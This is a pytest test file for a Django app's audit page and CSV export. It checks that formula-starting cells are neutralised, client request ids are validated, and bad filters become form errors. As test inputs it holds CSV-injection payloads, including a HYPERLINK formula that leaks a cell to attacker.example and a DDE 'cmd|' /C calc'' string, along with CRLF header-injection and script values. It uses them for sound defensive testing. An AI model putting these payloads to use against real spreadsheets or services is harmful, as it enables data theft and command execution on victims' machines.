"""The audit page and its CSV export: hostile filters are form errors, cells are spreadsheet-safe,
and request ids taken from clients are validated or replaced."""

from __future__ import annotations

import csv
import io
import re

import pytest

from core.audit import audit_check_run, audit_record
from core.middleware import request_id_is_valid
from core.models import AuditEvent
from fraudcases.views.audit import CSV_COLUMNS, csv_safe

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def audit_files(settings, tmp_path):
    settings.AUDIT_HMAC_KEY = "export-test-key-" + "d" * 40
    settings.AUDIT_ANCHOR_PATH = tmp_path / "anchors.jsonl"


@pytest.fixture
def auditor_client(client, make_user):
    client.force_login(make_user("auditor", "export-auditor"))
    return client


def _export(client, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/audit/export.csv{query}")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


# --- CSV injection -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\ncmd", "'\ncmd"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (42, "42"),
        (None, ""),
    ],
)
def test_csv_safe_neutralises_formula_starts(value, expected):
    assert csv_safe(value) == expected


def test_export_neutralises_hostile_cells_and_keeps_the_rest(auditor_client):
    audit_record(
        action="test.event",
        actor_label="@evil",
        note='=HYPERLINK("http://attacker.example/?"&A1,"click")',
        after={"x": 1},
    )
    audit_record(action="test.event", actor_label="system:test", note="-1+cmd|' /C calc'!A0")
    audit_record(action="test.event", actor_label="system:test", note="ordinary note")
    rows = [r for r in _export(auditor_client, "?action=test.event")]
    assert len(rows) == 3 and list(rows[0]) == CSV_COLUMNS
    first, second, third = rows
    assert first["actor"] == "'@evil" and first["note"].startswith("'=HYPERLINK(")
    assert first["after"] == '{"x": 1}'
    assert second["note"] == "'-1+cmd|' /C calc'!A0"
    assert third["note"] == "ordinary note" and third["actor"] == "system:test"
    event = AuditEvent.objects.get(note="ordinary note")
    assert third["seq"] == str(event.seq) and third["key_id"] == event.key_id
    assert third["hash"] == event.hash
    # Every cell of the export is safe, whichever column it is in.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), value


# --- request ids ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "valid"),
    [
        ("abc", True),
        ("req-2026.12.01_0001", True),
        ("A" * 64, True),
        ("A" * 65, False),
        ("", False),
        ("has space", False),
        ("=cmd", False),
        ("line\nbreak", False),
        ("trailing\n", False),
        ("<script>", False),
        ("ünïcode", False),
        (None, False),
    ],
)
def test_request_id_validation(value, valid):
    assert request_id_is_valid(value) is valid


def test_a_valid_client_request_id_is_kept_and_audited(auditor_client):
    response = auditor_client.get(
        "/audit/export.csv", headers={"X-Request-ID": "client-req.0001_a"}
    )
    assert response.status_code == 200 and response["X-Request-ID"] == "client-req.0001_a"
    assert AuditEvent.objects.get(action="audit.export").request_id == "client-req.0001_a"


@pytest.mark.parametrize("bad", ["x" * 65, "=1+1", "a b", "evil\r\nX-Injected: 1", "ünï"])
def test_an_invalid_client_request_id_is_replaced(auditor_client, bad):
    response = auditor_client.get("/audit/export.csv", headers={"X-Request-ID": bad})
    assert response.status_code == 200
    fresh = response["X-Request-ID"]
    assert fresh != bad and re.fullmatch(r"[0-9a-f]{32}", fresh)
    assert AuditEvent.objects.get(action="audit.export").request_id == fresh


def test_invalid_request_ids_from_tasks_are_not_stored():
    event = audit_record(action="test.event", request_id="=cmd|evil")
    assert event.request_id == ""
    event = audit_record(action="test.event", request_id="task-ok-1")
    assert event.request_id == "task-ok-1"


# --- hostile filters on /audit/ (issue 9) --------------------------------------------------


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ("case=" + "9" * 25, "case", "less than or equal to"),
        ("until=0001-01-01T00:00:00%2B14:00", "until", "Out of range"),
        ("since=9999-12-31T23:00:00-14:00", "since", "Out of range"),
        ("since=not-a-date", "since", "Enter a valid date/time"),
    ],
)
@pytest.mark.parametrize("path", ["/audit/", "/audit/export.csv"])
def test_out_of_range_filters_are_form_errors_not_500s(auditor_client, path, query, field, message):
    audit_record(action="test.event", note="x")
    exports = AuditEvent.objects.filter(action="audit.export").count()
    response = auditor_client.get(f"{path}?{query}")
    assert response.status_code == 400
    assert message in response.context["form"].errors[field][0]
    assert f"{field}: " in response.content.decode()
    # Nothing was exported (and no export was audited) for a refused filter.
    assert AuditEvent.objects.filter(action="audit.export").count() == exports


def test_in_range_extremes_still_filter(auditor_client):
    audit_record(action="test.event", note="x")
    response = auditor_client.get("/audit/?until=9999-12-31&since=0001-01-01T00:00:00Z")
    assert response.status_code == 200 and response.context["page"].paginator.count == 1
    # An offset PostgreSQL cannot store (+18:29) is converted to UTC before the query.
    response = auditor_client.get("/audit/?since=2000-01-01T00:00:00%2B18:29")
    assert response.status_code == 200 and response.context["page"].paginator.count == 1


def test_audit_page_shows_the_last_verification(auditor_client):
    response = auditor_client.get("/audit/")
    assert "has not been verified yet" in response.content.decode()
    audit_record(action="test.event", note="x")
    audit_check_run()
    page = auditor_client.get("/audit/").content.decode()
    assert "intact" in page and "1 event verified" in page
